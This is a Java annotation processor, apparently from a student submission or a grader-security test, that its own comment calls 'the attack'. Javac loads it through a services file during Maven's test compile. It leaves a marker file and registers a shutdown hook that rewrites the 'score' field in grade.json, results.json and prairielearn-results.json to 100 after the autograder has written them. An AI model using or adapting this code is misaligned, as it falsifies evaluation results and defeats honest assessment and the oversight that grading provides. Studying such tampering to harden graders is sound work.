package student;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.RoundEnvironment;
import javax.annotation.processing.SupportedAnnotationTypes;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

/**
 * The attack: javac finds this processor through the services file in src/test/resources (copied to
 * target/test-classes, on testCompile's class path) and runs it inside Maven's JVM, where it leaves a shutdown hook
 * that rewrites every report's score after the grader wrote them, and a marker saying it ran.
 */
@SupportedAnnotationTypes("*")
public class GradeRewritingProcessor extends AbstractProcessor {

    private static final List<String> REPORTS = List.of("grade.json", "results.json", "prairielearn-results.json");

    @Override
    public synchronized void init(ProcessingEnvironment environment) {
        super.init(environment);
        Path project = project();
        try {
            Files.writeString(project.resolve("annotation-processor-ran.txt"), "ran in " + ProcessHandle.current().pid()
                    + "\n", StandardCharsets.UTF_8, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        Runtime.getRuntime().addShutdownHook(new Thread(() -> rewrite(project)));
    }

    private static void rewrite(Path project) {
        try (Stream<Path> files = Files.walk(project)) {
            for (Path report : files.filter(file -> REPORTS.contains(file.getFileName().toString())).toList()) {
                String json = Files.readString(report);
                Files.writeString(report, json.replaceFirst("\"score\"\\s*:\\s*[0-9.]+", "\"score\" : 100"));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The project's directory: this class lies in its target/classes. */
    private static Path project() {
        try {
            return Path.of(GradeRewritingProcessor.class.getProtectionDomain().getCodeSource().getLocation().toURI())
                    .getParent().getParent();
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    @Override
    public SourceVersion getSupportedSourceVersion() {
        return SourceVersion.latestSupported();
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }
}
